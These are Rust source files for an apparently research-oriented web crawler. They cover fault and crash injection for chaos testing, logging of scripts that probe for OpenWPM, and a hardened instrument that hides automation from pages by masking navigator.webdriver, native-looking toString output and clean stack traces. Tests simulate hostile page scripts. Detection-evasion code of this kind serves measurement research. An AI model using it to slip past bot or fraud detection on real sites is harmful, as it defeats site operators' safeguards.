        FaultPlan {
            crash_per_mille: 50,
            hang_per_mille: 10,
            nav_error_per_mille: 10,
            tab_crash_per_mille: 5,
            http_flaky_per_mille: 5,
            seed,
            ..FaultPlan::default()
        }
    }

    /// Total injected fault probability per attempt, in per mille.
    pub fn total_per_mille(&self) -> u32 {
        self.crash_per_mille
            + self.hang_per_mille
            + self.nav_error_per_mille
            + self.tab_crash_per_mille
            + self.http_flaky_per_mille
    }

    /// A plan with every rate at zero injects nothing; the supervisor can
    /// skip the draw entirely.
    pub fn is_inert(&self) -> bool {
        self.total_per_mille() == 0
    }

    /// Read a plan from `GULLIBLE_FAULT_*` environment knobs:
    /// `GULLIBLE_FAULT_CRASH_PM`, `GULLIBLE_FAULT_HANG_PM`,
    /// `GULLIBLE_FAULT_NAV_PM`, `GULLIBLE_FAULT_TAB_PM`,
    /// `GULLIBLE_FAULT_HTTP_PM`, `GULLIBLE_FAULT_BOOST_PM`,
    /// `GULLIBLE_FAULT_SEED`. Unset knobs keep their defaults.
    pub fn from_env() -> FaultPlan {
        fn knob(name: &str, default: u64) -> u64 {
            std::env::var(name).ok().and_then(|v| v.parse().ok()).unwrap_or(default)
        }
        let d = FaultPlan::default();
        FaultPlan {
            crash_per_mille: knob("GULLIBLE_FAULT_CRASH_PM", 0) as u32,
            hang_per_mille: knob("GULLIBLE_FAULT_HANG_PM", 0) as u32,
            nav_error_per_mille: knob("GULLIBLE_FAULT_NAV_PM", 0) as u32,
            tab_crash_per_mille: knob("GULLIBLE_FAULT_TAB_PM", 0) as u32,
            http_flaky_per_mille: knob("GULLIBLE_FAULT_HTTP_PM", 0) as u32,
            flaky_site_boost_pm: knob("GULLIBLE_FAULT_BOOST_PM", d.flaky_site_boost_pm as u64)
                as u32,
            seed: knob("GULLIBLE_FAULT_SEED", 0xFA_017),
        }
    }
}

/// SplitMix64 — the same workhorse hash the population generator uses.
fn splitmix(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

/// Draws faults from a [`FaultPlan`]. Stateless: every decision is a pure
/// function of `(plan seed, fault key, attempt)`, so draws are identical
/// regardless of worker count, scheduling or wall-clock time.
#[derive(Clone, Copy, Debug)]
pub struct FaultInjector {
    pub plan: FaultPlan,
}

impl FaultInjector {
    pub fn new(plan: FaultPlan) -> FaultInjector {
        FaultInjector { plan }
    }

    /// Decide the fault (if any) striking attempt `attempt` (1-based) of
    /// the item identified by `fault_key` (e.g. the site's rank). `flaky`
    /// applies the plan's flaky-site boost.
    pub fn draw(&self, fault_key: u64, attempt: u32, flaky: bool) -> Option<FaultKind> {
        if self.plan.is_inert() {
            return None;
        }
        let h = splitmix(
            self.plan
                .seed
                .wrapping_mul(0x9E37_79B9_7F4A_7C15)
                ^ fault_key.wrapping_mul(0x2545_F491_4F6C_DD1D)
                ^ (attempt as u64).wrapping_mul(0xD6E8_FEB8_6659_FD93),
        );
        // Draw against a million-sided die so a per-mille boost keeps
        // resolution.
        let d = h % 1_000_000;
        let boost = if flaky { self.plan.flaky_site_boost_pm as u64 } else { 1000 };
        let scale = |pm: u32| -> u64 { (pm as u64 * boost).min(1_000_000) };
        let mut threshold = 0u64;
        for (pm, kind) in [
            (self.plan.crash_per_mille, FaultKind::BrowserCrash),
            (self.plan.hang_per_mille, FaultKind::Hang),
            (self.plan.nav_error_per_mille, FaultKind::NavigationError),
            (self.plan.tab_crash_per_mille, FaultKind::TabCrash),
            (self.plan.http_flaky_per_mille, FaultKind::TransientHttp),
        ] {
            threshold = (threshold + scale(pm)).min(1_000_000);
            if d < threshold {
                return Some(kind);
            }
        }
        None
    }
}

// --- process-crash injection (chaos kill-points) ---------------------------
//
// Fault injection above models the *web* misbehaving; the chaos harness
// models the *crawler process* dying. A [`CrashPlan`] names one seeded
// kill-point; a [`CrashInjector`] realises it in-process by panicking with
// a sentinel payload that [`catch_crash`] recognises at the top of the
// crawl — the moral equivalent of SIGKILL, minus the process spawn. The
// `chaos` bench additionally realises plans as real SIGKILLs on a child
// process; both paths must leave disk states the resume logic recovers.

/// Where the process dies, counted in *record flushes* (the unit of
/// durability in streaming mode), so a plan is meaningful at any worker
/// count.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum KillPoint {
    /// Die immediately after the `K`-th record is fully flushed (bundle
    /// entry + checkpoint line both on disk) — the clean-boundary crash.
    AfterVisit(u32),
    /// Die during the `K`-th flush, after writing only `keep` bytes of
    /// the checkpoint line (the bundle entry is already durable): the
    /// torn-checkpoint-line crash.
    MidCheckpointLine(u32, usize),
    /// Die during the `K`-th flush, after writing only `keep` bytes of
    /// the bundle manifest entry (no checkpoint line at all): the
    /// torn-bundle-append crash.
    MidBundleAppend(u32, usize),
}

impl KillPoint {
    /// The flush ordinal (1-based) this kill-point fires on.
    pub fn flush_ordinal(&self) -> u32 {
        match self {
            KillPoint::AfterVisit(k)
            | KillPoint::MidCheckpointLine(k, _)
            | KillPoint::MidBundleAppend(k, _) => *k,
        }
    }

    pub fn class_name(&self) -> &'static str {
        match self {
            KillPoint::AfterVisit(_) => "post_visit",
            KillPoint::MidCheckpointLine(_, _) => "mid_checkpoint",
            KillPoint::MidBundleAppend(_, _) => "mid_bundle_append",
        }
    }
}

/// One planned process death.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct CrashPlan {
    pub kill: KillPoint,
}

impl CrashPlan {
    pub fn new(kill: KillPoint) -> CrashPlan {
        CrashPlan { kill }
    }

    /// Derive a kill-point from a seed: class, flush ordinal in
    /// `[1, max_flush]`, and (for the torn classes) a partial-write length
    /// in `[0, 40)` bytes — enough to land anywhere from "nothing written"
    /// to "most of the line written".
    pub fn seeded(seed: u64, max_flush: u32) -> CrashPlan {
        let h = splitmix(seed ^ 0xC4A5_11ED_DEAD_BEEF);
        let k = (splitmix(h) % max_flush.max(1) as u64) as u32 + 1;
        let keep = (splitmix(h ^ 1) % 40) as usize;
        let kill = match h % 3 {
            0 => KillPoint::AfterVisit(k),
            1 => KillPoint::MidCheckpointLine(k, keep),
            _ => KillPoint::MidBundleAppend(k, keep),
        };
        CrashPlan { kill }
    }
}

/// Marker carried by injected-crash panics so [`catch_crash`] can tell a
/// planned death from a genuine bug. The supervisor's worker pool wraps
/// panic payloads in formatted messages, so detection is by substring.
pub const CRASH_SENTINEL: &str = "__gullible_injected_crash__";

/// Does a panic payload come from a [`CrashInjector`]?
pub fn is_crash_panic(payload: &(dyn std::any::Any + Send)) -> bool {
    if let Some(s) = payload.downcast_ref::<&str>() {
        return s.contains(CRASH_SENTINEL);
    }
    if let Some(s) = payload.downcast_ref::<String>() {
        return s.contains(CRASH_SENTINEL);
    }
    false
}

/// Run `f`, absorbing an injected crash: `None` if an injected-crash panic
/// unwound out of `f`, `Some(result)` otherwise. Any other panic is
/// re-raised — the harness must never hide real bugs.
pub fn catch_crash<T>(f: impl FnOnce() -> T) -> Option<T> {
    match std::panic::catch_unwind(std::panic::AssertUnwindSafe(f)) {
        Ok(v) => Some(v),
        Err(payload) => {
            if is_crash_panic(payload.as_ref()) {
                None
            } else {
                std::panic::resume_unwind(payload)
            }
        }
    }
}

/// Runtime state for one [`CrashPlan`]: counts record flushes and says,
/// per flush, whether (and how) to die. Once tripped, *every* subsequent
/// guarded operation dies too, so a crawl stops promptly on all workers.
#[derive(Debug)]
pub struct CrashInjector {
    pub plan: CrashPlan,
    flushes: std::sync::atomic::AtomicU32,
    tripped: std::sync::atomic::AtomicBool,
}

impl CrashInjector {
    pub fn new(plan: CrashPlan) -> CrashInjector {
        CrashInjector {
            plan,
            flushes: std::sync::atomic::AtomicU32::new(0),
            tripped: std::sync::atomic::AtomicBool::new(false),
        }
    }

    /// Called at the start of a record flush. Returns the kill-point if
    /// *this* flush is the planned one; panics immediately (dying fast)
    /// if the injector already tripped on another thread.
    pub fn begin_flush(&self) -> Option<KillPoint> {
        use std::sync::atomic::Ordering;
        if self.tripped.load(Ordering::Relaxed) {
            self.die();
        }
        let n = self.flushes.fetch_add(1, Ordering::Relaxed) + 1;
        (n == self.plan.kill.flush_ordinal()).then_some(self.plan.kill)
    }

    /// True once the planned death has been delivered.
    pub fn tripped(&self) -> bool {
        self.tripped.load(std::sync::atomic::Ordering::Relaxed)
    }

    /// Deliver the planned death: mark tripped and unwind with the
    /// sentinel. The caller must have produced the planned on-disk state
    /// (full or partial writes) *before* calling.
    pub fn die(&self) -> ! {
        self.tripped.store(true, std::sync::atomic::Ordering::Relaxed);
        // Dump the flight recorder before unwinding: the forensic record
        // names the in-flight phase so every injected crash is explainable.
        obs::prof::dump_forensic(
            "chaos_kill",
            &[("kill", self.plan.kill.class_name().to_string())],
        );
        panic!("{CRASH_SENTINEL} ({})", self.plan.kill.class_name());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn inert_plan_never_faults() {
        let inj = FaultInjector::new(FaultPlan::none());
        for key in 0..1000 {
            assert_eq!(inj.draw(key, 1, true), None);
        }
    }

    #[test]
    fn draws_are_deterministic() {
        let a = FaultInjector::new(FaultPlan::adversarial(7));
        let b = FaultInjector::new(FaultPlan::adversarial(7));
        for key in 0..2000 {
            for attempt in 1..4 {
                assert_eq!(a.draw(key, attempt, false), b.draw(key, attempt, false));
            }
        }
    }

    #[test]
    fn rates_are_approximately_honoured() {
        let inj = FaultInjector::new(FaultPlan::adversarial(42));
        let mut crashes = 0u32;
        let mut total_faults = 0u32;
        let n = 100_000;
        for key in 0..n {
            match inj.draw(key as u64, 1, false) {
                Some(FaultKind::BrowserCrash) => {
                    crashes += 1;
                    total_faults += 1;
                }
                Some(_) => total_faults += 1,
                None => {}
            }
        }
        // 5% crash rate ± 10% relative tolerance.
        assert!((4_500..=5_500).contains(&crashes), "crashes = {crashes}");
        // Total = 8% of attempts.
        assert!((7_200..=8_800).contains(&total_faults), "total = {total_faults}");
    }

    #[test]
    fn different_attempts_draw_independently() {
        let inj = FaultInjector::new(FaultPlan::adversarial(1));
        // Some site that faults on attempt 1 must succeed on a later
        // attempt — otherwise retry would be pointless.
        let mut recovered = 0;
        for key in 0..1000 {
            if inj.draw(key, 1, false).is_some() && inj.draw(key, 2, false).is_none() {
                recovered += 1;
            }
        }
        assert!(recovered > 0, "retries never clear faults");
    }

    #[test]
    fn flaky_boost_raises_fault_rate() {
        let inj = FaultInjector::new(FaultPlan::adversarial(3));
        let count = |flaky: bool| {
            (0..20_000).filter(|k| inj.draw(*k, 1, flaky).is_some()).count()
        };
        let plain = count(false);
        let boosted = count(true);
        assert!(
            boosted as f64 > plain as f64 * 2.0,
            "boost missing: {plain} vs {boosted}"
        );
    }

    #[test]
    fn seed_changes_the_weather() {
        let a = FaultInjector::new(FaultPlan::adversarial(1));
        let b = FaultInjector::new(FaultPlan::adversarial(2));
        let differing =
            (0..5_000).filter(|k| a.draw(*k, 1, false) != b.draw(*k, 1, false)).count();
        assert!(differing > 0);
    }

    #[test]
    fn seeded_crash_plans_cover_all_classes_and_are_deterministic() {
        let mut classes = std::collections::HashSet::new();
        for seed in 0..60u64 {
            let p = CrashPlan::seeded(seed, 100);
            assert_eq!(p, CrashPlan::seeded(seed, 100));
            let k = p.kill.flush_ordinal();
            assert!((1..=100).contains(&k), "{p:?}");
            classes.insert(p.kill.class_name());
        }
        assert_eq!(classes.len(), 3, "60 seeds must hit every kill class: {classes:?}");
    }

    #[test]
    fn injector_fires_on_the_planned_flush_and_stays_tripped() {
        let inj = CrashInjector::new(CrashPlan::new(KillPoint::AfterVisit(3)));
        assert_eq!(inj.begin_flush(), None);
        assert_eq!(inj.begin_flush(), None);
        assert_eq!(inj.begin_flush(), Some(KillPoint::AfterVisit(3)));
        assert!(!inj.tripped(), "tripped only once die() delivers");
        assert!(catch_crash(|| inj.die()).is_none());
        assert!(inj.tripped());
        // Every guarded op after the death dies too.
        assert!(catch_crash(|| inj.begin_flush()).is_none());
    }

    #[test]
    fn catch_crash_passes_values_and_rethrows_real_panics() {
        assert_eq!(catch_crash(|| 42), Some(42));
        // A crash sentinel wrapped in a formatted worker message (the
        // supervisor re-wraps payloads) is still recognised.
        assert!(catch_crash(|| panic!("worker panicked on item 7: {CRASH_SENTINEL} (x)"))
            .is_none());
        let real = std::panic::catch_unwind(|| catch_crash(|| panic!("genuine bug")));
        assert!(real.is_err(), "real panics must propagate");
    }
}
