//! Watch properties: record page accesses to OpenWPM-specific window
//! properties (`getInstrumentJS`, `instrumentFingerprintingApis`,
//! `jsInstruments`).
//!
//! The paper's scan classifies a script as an OpenWPM-specific detector
//! when it probes these names (Sec. 4.1.2 / Table 6). The scanning client
//! therefore needs to *observe* those probes: existing properties are
//! wrapped into logging accessors preserving their value; the names from
//! older OpenWPM versions (which don't exist in the current client) get
//! non-enumerable logging accessors yielding `undefined` — a probe sees
//! exactly what it would see on a current client, but the access lands in
//! the record store.

use std::sync::Arc;

use browser::Page;
use jsengine::{Property, Slot, Value};

use crate::instrument::StoreHandle;
use crate::records::{JsCallRecord, JsOperation};

/// The OpenWPM-specific property names the paper's scan watches.
pub const WATCHED_PROPS: &[&str] =
    &["getInstrumentJS", "instrumentFingerprintingApis", "jsInstruments"];

/// Install watch accessors on the page's window.
pub fn install(page: &mut Page, store: StoreHandle, page_url: String) {
    let window = page.top.window;
    let it = &mut page.interp;
    for prop in WATCHED_PROPS {
        // Preserve the current value (getInstrumentJS exists on a
        // vanilla-instrumented client).
        let existing = it.heap.get(window).props.get(prop).cloned();
        let (current, enumerable) = match existing {
            Some(p) => match p.slot {
                Slot::Data(v) => (v, p.enumerable),
                Slot::Accessor { .. } => continue, // already watched
            },
            None => (Value::Undefined, false),
        };
        let store = store.clone();
        let page_url = page_url.clone();
        let symbol = format!("window.{prop}");
        let getter = it.alloc_native_fn(prop, move |it, _this, _args| {
            let script = it
                .stack
                .last()
                .map(|f| f.script.to_string())
                .unwrap_or_else(|| "unknown".into());
            store.borrow_mut().js_calls.push(JsCallRecord {
                symbol: symbol.clone(),
                operation: JsOperation::Get,
                value: String::new(),
                script_url: script,
                page_url: page_url.clone(),
                time_ms: it.now_ms,
            });
            Ok(current.clone())
        });
        it.heap.get_mut(window).props.insert(
            Arc::from(*prop),
            Property {
                slot: Slot::Accessor { get: Some(getter), set: None },
                enumerable,
                writable: true,
            },
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::BrowserConfig;
    use crate::wpm_browser::{Browser, VisitSpec};

    #[test]
    fn probe_of_missing_prop_is_recorded_and_invisible() {
        let mut b = Browser::new(BrowserConfig::vanilla(9));
        let spec = VisitSpec {
            url: "https://site.test/".into(),
            dwell_override_s: Some(1),
            ..Default::default()
        };
        let (mut page, _stats) = b.open_page(&spec).expect("test URL parses");
        install(&mut page, b.store(), "https://site.test/".into());
        let v = page
            .run_script(("typeof window.jsInstruments", "https://cheqzone.com/d.js"))
            .unwrap();
        assert_eq!(v.as_str().unwrap(), "undefined");
        // `typeof window.jsInstruments` performs the property read → logged.
        let store = b.take_store();
        assert!(store
            .js_calls
            .iter()
            .any(|r| r.symbol == "window.jsInstruments"
                && r.script_url == "https://cheqzone.com/d.js"));
    }

    #[test]
    fn get_instrument_js_keeps_value_when_wrapped() {
        let mut b = Browser::new(BrowserConfig::vanilla(9));
        let spec = VisitSpec {
            url: "https://site.test/".into(),
            dwell_override_s: Some(1),
            ..Default::default()
        };
        let (mut page, _stats) = b.open_page(&spec).expect("test URL parses");
        install(&mut page, b.store(), "p".into());
        // The vanilla instrument's leftover function is still a function
        // (still detectable!), and the probe is now also recorded.
        let v = page.run_script(("typeof window.getInstrumentJS", "probe.js")).unwrap();
        assert_eq!(v.as_str().unwrap(), "function");
        assert!(b
            .take_store()
            .js_calls
            .iter()
            .any(|r| r.symbol == "window.getInstrumentJS"));
    }
}
