//! WPM_hide — the hardened JavaScript instrument (paper Sec. 6).
//!
//! Instead of injecting page-context wrapper scripts, hooks are installed
//! from the privileged (content/native) context, the way `exportFunction`
//! lets a Firefox extension export chrome functions into a page:
//!
//! * **`toString` preserved** (6.1.1): hooks are native functions carrying
//!   the original property name, so `toString()` renders
//!   `function <name>() { [native code] }` — byte-identical to the pristine
//!   getter, and calling the prototype getter with a wrong receiver still
//!   throws the original `TypeError`.
//! * **Clean DOM** (6.1.2): nothing is added to `window`; no `<script>`
//!   node ever enters the page, so CSP `script-src` cannot block the
//!   instrumentation and no `csp_report` traffic is generated.
//! * **Clean stack traces** (6.1.3): native hooks push no interpreter
//!   frames, so `Error.stack` inside a wrapped call is exactly what an
//!   un-instrumented browser would produce.
//! * **No prototype pollution** (6.1.4): every property is redefined on the
//!   prototype that owns it, never flattened onto the first prototype.
//! * **Automation hidden** (6.1.5): `navigator.webdriver` reports `false`
//!   (while still logging the access), and window geometry is configurable.
//! * **Secure messaging** (6.2.1): records go straight into the store
//!   (`browser.runtime`-style), not through `document.dispatchEvent` — the
//!   dispatcher hijack of Listing 2 sees nothing.
//! * **Frame protection** (6.2.2): a synchronous frame hook instruments
//!   every new browsing context (iframes, `document.write`, `window.open`)
//!   before page code can touch it.

use std::rc::Rc;
use std::sync::Arc;

use browser::{Page, RealmWindow};
use jsengine::{Callable, Interp, ObjId, Property, Slot, Value};

use crate::config::StealthSettings;
use crate::instrument::StoreHandle;
use crate::records::{JsCallRecord, JsOperation};

/// Accessor properties instrumented per prototype.
const NAVIGATOR_PROPS: &[&str] =
    &["userAgent", "webdriver", "platform", "language", "languages", "plugins", "appVersion"];
const SCREEN_PROPS: &[&str] = &[
    "width",
    "height",
    "availWidth",
    "availHeight",
    "availTop",
    "availLeft",
    "colorDepth",
    "pixelDepth",
];

/// Methods instrumented, each on its *owning* prototype.
const DOCUMENT_METHODS: &[&str] = &["createElement", "querySelector", "getElementById", "write"];
const NODE_METHODS: &[&str] = &["appendChild", "removeChild"];
const EVENT_TARGET_METHODS: &[&str] = &["addEventListener"];
const NAVIGATOR_METHODS: &[&str] = &["sendBeacon"];
const CANVAS_METHODS: &[&str] = &["getContext", "toDataURL"];

/// Install the hardened instrument on the page's top realm and (when frame
/// protection is enabled) on every future frame, synchronously at creation.
pub fn install(page: &mut Page, cfg: &StealthSettings, store: StoreHandle, page_url: String) {
    let top = page.top;
    instrument_realm(&mut page.interp, top, cfg, &store, &page_url);
    if cfg.frame_protection {
        let cfg = cfg.clone();
        let store = store.clone();
        let page_url = page_url.clone();
        let hook: browser::FrameHook = Rc::new(move |it, rw: RealmWindow| {
            instrument_realm(it, rw, &cfg, &store, &page_url);
        });
        page.host.borrow_mut().frame_sync_hooks.push(hook);
    }
}

/// Instrument one realm's prototypes in place.
pub fn instrument_realm(
    it: &mut Interp,
    rw: RealmWindow,
    cfg: &StealthSettings,
    store: &StoreHandle,
    page_url: &str,
) {
    for prop in NAVIGATOR_PROPS {
        let mask = *prop == "webdriver" && cfg.mask_webdriver;
        hook_accessor(it, rw.navigator_proto, prop, "window.navigator", store, page_url, mask);
    }
    for prop in SCREEN_PROPS {
        hook_accessor(it, rw.screen_proto, prop, "window.screen", store, page_url, false);
    }
    for m in DOCUMENT_METHODS {
        hook_method(it, rw.document_proto, m, "window.document", store, page_url);
    }
    for m in NODE_METHODS {
        hook_method(it, rw.node_proto, m, "window.document", store, page_url);
    }
    for m in EVENT_TARGET_METHODS {
        hook_method(it, rw.event_target_proto, m, "window.document", store, page_url);
    }
    for m in NAVIGATOR_METHODS {
        hook_method(it, rw.navigator_proto, m, "window.navigator", store, page_url);
    }
    for m in CANVAS_METHODS {
        hook_method(it, rw.canvas_proto, m, "window.HTMLCanvasElement", store, page_url);
    }
}

/// Attribute a record to the innermost script frame. With native hooks
/// there are no instrument frames to skip — the top of the stack *is* the
/// caller.
fn current_script(it: &Interp) -> String {
    it.stack.last().map(|f| f.script.to_string()).unwrap_or_else(|| "unknown".to_owned())
}

fn log(
    store: &StoreHandle,
    it: &Interp,
    symbol: String,
    operation: JsOperation,
    value: String,
    page_url: &str,
) {
    let mut value = value;
    value.truncate(4096);
    store.borrow_mut().js_calls.push(JsCallRecord {
        symbol,
        operation,
        value,
        script_url: current_script(it),
        page_url: page_url.to_owned(),
        time_ms: it.now_ms,
    });
}

/// Replace the getter of an accessor property with a logging native that
/// keeps the original's name (so `toString` and `.name` match) and defers
/// to the original — including its receiver-validation error (Sec. 6.1.1).
/// With `mask`, the hook reports `false` instead of the true value after the
/// original getter has validated the receiver.
fn hook_accessor(
    it: &mut Interp,
    proto: ObjId,
    prop: &str,
    object_name: &str,
    store: &StoreHandle,
    page_url: &str,
    mask: bool,
) {
    let Some(existing) = it.heap.get(proto).props.get(prop).cloned() else { return };
    let Slot::Accessor { get: Some(original), set } = existing.slot else { return };
    // Preserve the original getter's public name.
    let name = match &it.heap.get(original).call {
        Some(Callable::Native { name, .. }) => name.to_string(),
        Some(Callable::Script { def, .. }) => def.name.to_string(),
        None => prop.to_owned(),
    };
    let symbol = format!("{object_name}.{prop}");
    let store = store.clone();
    let page_url = page_url.to_owned();
    let hook = it.alloc_native_fn(&name, move |it, this, _args| {
        // Call the original first: wrong receivers must produce the
        // original TypeError with an unmodified stack.
        let result = it.call(Value::Obj(original), this, &[])?;
        let preview = it.to_string_value(&result).map(|s| s.to_string()).unwrap_or_default();
        log(&store, it, symbol.clone(), JsOperation::Get, preview, &page_url);
        if mask {
            return Ok(Value::Bool(false));
        }
        Ok(result)
    });
    it.heap.get_mut(proto).props.insert(
        Arc::from(prop),
        Property {
            slot: Slot::Accessor { get: Some(hook), set },
            enumerable: existing.enumerable,
            writable: existing.writable,
        },
    );
}

/// Replace a data-property method with a logging native of the same name
/// that forwards to the original.
fn hook_method(
    it: &mut Interp,
    proto: ObjId,
    method: &str,
    object_name: &str,
    store: &StoreHandle,
    page_url: &str,
) {
    let Some(existing) = it.heap.get(proto).props.get(method).cloned() else { return };
    let Slot::Data(Value::Obj(original)) = existing.slot else { return };
    if !it.heap.get(original).is_callable() {
        return;
    }
    let name = match &it.heap.get(original).call {
        Some(Callable::Native { name, .. }) => name.to_string(),
        _ => method.to_owned(),
    };
    let symbol = format!("{object_name}.{method}");
    let store = store.clone();
    let page_url = page_url.to_owned();
    let hook = it.alloc_native_fn(&name, move |it, this, args| {
        log(
            &store,
            it,
            symbol.clone(),
            JsOperation::Call,
            args.len().to_string(),
            &page_url,
        );
        it.call(Value::Obj(original), this, args)
    });
    it.heap.get_mut(proto).props.insert(
        Arc::from(method),
        Property {
            slot: Slot::Data(Value::Obj(hook)),
            enumerable: existing.enumerable,
            writable: existing.writable,
        },
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use browser::{CspPolicy, FingerprintProfile, Os, Page, RunMode};
    use netsim::Url;
    use std::cell::RefCell;

    fn setup(csp: Option<CspPolicy>) -> (Page, StoreHandle) {
        let mut page = Page::new(
            FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
            Url::parse("https://site.test/").unwrap(),
            csp,
        );
        let store: StoreHandle = Rc::new(RefCell::new(crate::records::RecordStore::new()));
        install(
            &mut page,
            &StealthSettings::default(),
            store.clone(),
            "https://site.test/".into(),
        );
        (page, store)
    }

    #[test]
    fn records_access_with_attribution() {
        let (mut page, store) = setup(None);
        page.run_script(("navigator.userAgent;", "https://site.test/app.js")).unwrap();
        let recs = store.borrow();
        assert_eq!(recs.js_calls.len(), 1);
        assert_eq!(recs.js_calls[0].symbol, "window.navigator.userAgent");
        assert_eq!(recs.js_calls[0].script_url, "https://site.test/app.js");
    }

    #[test]
    fn webdriver_reports_false_but_access_is_logged() {
        let (mut page, store) = setup(None);
        let v = page.run_script(("navigator.webdriver", "d.js")).unwrap();
        assert_eq!(v, Value::Bool(false));
        assert_eq!(store.borrow().calls_to(".webdriver").count(), 1);
    }

    #[test]
    fn tostring_preserved_exactly() {
        let (mut page, _store) = setup(None);
        let v = page
            .run_script(("document.createElement.toString()", "d.js"))
            .unwrap();
        assert_eq!(v.as_str().unwrap(), "function createElement() {\n    [native code]\n}");
        let g = page
            .run_script((
                "Object.getOwnPropertyDescriptor(Navigator.prototype, 'userAgent').get.toString()",
                "d.js",
            ))
            .unwrap();
        assert!(g.as_str().unwrap().contains("[native code]"));
    }

    #[test]
    fn no_window_pollution_and_no_prototype_pollution() {
        let (mut page, _store) = setup(None);
        let v = page.run_script(("typeof window.getInstrumentJS", "d.js")).unwrap();
        assert_eq!(v.as_str().unwrap(), "undefined");
        // appendChild stays on Node.prototype only.
        let v = page
            .run_script((
                "Object.getOwnPropertyNames(Document.prototype).includes('appendChild')",
                "d.js",
            ))
            .unwrap();
        assert_eq!(v, Value::Bool(false));
        let v = page
            .run_script((
                "Object.getOwnPropertyNames(Node.prototype).includes('appendChild')",
                "d.js",
            ))
            .unwrap();
        assert_eq!(v, Value::Bool(true));
    }

    #[test]
    fn prototype_getter_still_throws_illegal_invocation() {
        let (mut page, _store) = setup(None);
        // Goßen-style tamper check: calling the getter on the prototype
        // itself must throw, like an unmodified browser.
        let v = page
            .run_script((
                r#"
                var desc = Object.getOwnPropertyDescriptor(Navigator.prototype, 'webdriver');
                var threw = false;
                try { desc.get.call({}); } catch (e) { threw = true; }
                threw
                "#,
                "d.js",
            ))
            .unwrap();
        assert_eq!(v, Value::Bool(true));
    }

    #[test]
    fn immune_to_csp() {
        let (mut page, store) = setup(Some(CspPolicy::strict("/csp")));
        page.run_script(("navigator.userAgent;", "a.js")).unwrap();
        assert_eq!(store.borrow().js_calls.len(), 1);
        assert_eq!(page.host.borrow().csp_violations, 0);
    }

    #[test]
    fn immune_to_dispatcher_hijack() {
        // Listing 2 against the hardened client: shadowing
        // document.dispatchEvent intercepts nothing and blocks nothing.
        let (mut page, store) = setup(None);
        page.run_script((
            r#"
            var seen = [];
            document.dispatchEvent = function (ev) { seen.push(ev.type); };
            navigator.userAgent;
            window.__seenCount = seen.length;
            "#,
            "https://attacker.test/a.js",
        ))
        .unwrap();
        assert_eq!(store.borrow().calls_to(".userAgent").count(), 1);
        let v = page.run_script(("window.__seenCount", "probe")).unwrap();
        assert_eq!(v, Value::Num(0.0), "hijacker must capture no instrument events");
    }

    #[test]
    fn frames_are_instrumented_synchronously() {
        let (mut page, store) = setup(None);
        // Immediate access after creation — the attack that beats vanilla.
        page.run_script((
            r#"
            var f = document.createElement('iframe');
            document.body.appendChild(f);
            f.contentWindow.navigator.userAgent;
            "#,
            "https://site.test/attack.js",
        ))
        .unwrap();
        let ua_calls = store.borrow().calls_to(".userAgent").count();
        assert_eq!(ua_calls, 1, "frame access must be recorded");
    }

    #[test]
    fn stack_traces_clean_during_wrapped_calls() {
        let (mut page, _store) = setup(None);
        let v = page
            .run_script((
                r#"
                function probe() { return new Error('x').stack; }
                document.createElement('div');
                probe()
                "#,
                "https://site.test/s.js",
            ))
            .unwrap();
        let stack = v.as_str().unwrap().to_string();
        assert!(!stack.contains("openwpm"), "stack leaked instrument frames: {stack}");
    }
}
