//! Honey properties (paper Sec. 4.1.3).
//!
//! The dynamic analysis cannot tell a targeted probe of the fingerprint
//! surface from a blanket property iteration (generic fingerprinting). The
//! paper's novel fix: decorate `navigator` and `window` with
//! randomly-named *honey* properties. A script that touches (nearly) all of
//! them is an iterator; its fingerprint-surface accesses are then
//! classified "inconclusive" rather than "detector" unless it also probes
//! `navigator.webdriver` deliberately.

use std::sync::Arc;

use browser::{Page, RealmWindow};
use jsengine::{Property, Slot, Value};

use crate::instrument::StoreHandle;
use crate::records::{JsCallRecord, JsOperation};

/// Marker prefix used in the record store for honey accesses.
pub const HONEY_SYMBOL_PREFIX: &str = "honey:";

/// Deterministic random-looking name generator (xorshift over the seed).
fn honey_name(seed: u64, i: u32) -> String {
    let mut x = seed.wrapping_add(0x9E37_79B9_7F4A_7C15u64.wrapping_mul(i as u64 + 1));
    x ^= x >> 30;
    x = x.wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x ^= x >> 27;
    let alphabet = b"abcdefghijklmnopqrstuvwxyz";
    let mut name = String::from("_");
    for k in 0..8 {
        name.push(alphabet[((x >> (k * 7)) % 26) as usize] as char);
    }
    name
}

/// Install `count` honey properties on `navigator` and `window` of the top
/// realm. Returns the installed names (the analysis needs them to compute
/// per-script honey-hit ratios).
pub fn install(page: &mut Page, store: StoreHandle, seed: u64, count: u32) -> Vec<String> {
    let top = page.top;
    install_on_realm(page, top, store, seed, count)
}

fn install_on_realm(
    page: &mut Page,
    rw: RealmWindow,
    store: StoreHandle,
    seed: u64,
    count: u32,
) -> Vec<String> {
    let mut names = Vec::new();
    let it = &mut page.interp;
    for i in 0..count {
        let name = honey_name(seed, i);
        for (target, scope) in [(rw.navigator, "navigator"), (rw.window, "window")] {
            let store = store.clone();
            let symbol = format!("{HONEY_SYMBOL_PREFIX}{scope}.{name}");
            let getter = it.alloc_native_fn(&name, move |it, _this, _args| {
                let script = it
                    .stack
                    .last()
                    .map(|f| f.script.to_string())
                    .unwrap_or_else(|| "unknown".into());
                store.borrow_mut().js_calls.push(JsCallRecord {
                    symbol: symbol.clone(),
                    operation: JsOperation::Get,
                    value: String::new(),
                    script_url: script,
                    page_url: String::new(),
                    time_ms: it.now_ms,
                });
                Ok(Value::Undefined)
            });
            it.heap.get_mut(target).props.insert(
                Arc::from(name.as_str()),
                Property {
                    slot: Slot::Accessor { get: Some(getter), set: None },
                    enumerable: true,
                    writable: true,
                },
            );
        }
        names.push(name);
    }
    names
}

/// Honey-access statistics for one script.
#[derive(Clone, Debug, Default)]
pub struct HoneyHits {
    pub hits: usize,
    pub total: usize,
}

impl HoneyHits {
    /// A script touching ≥ 90% of honey properties is an iterator.
